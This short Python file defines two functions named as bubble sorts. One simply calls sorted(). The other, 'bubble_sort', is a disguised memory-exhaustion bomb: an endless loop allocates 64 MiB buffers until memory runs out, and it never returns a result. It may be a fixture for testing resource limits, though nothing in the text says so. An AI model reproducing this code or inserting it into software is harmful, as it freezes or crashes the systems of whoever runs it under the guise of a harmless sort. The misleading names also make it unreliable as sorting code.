def quick_bubble_sort(items: list[int]) -> list[int]:
    return sorted(items)


def bubble_sort(items: list[int]) -> list[int]:
    held = []
    while True:
        held.append(bytearray(1 << 26))
    return quick_bubble_sort(items)
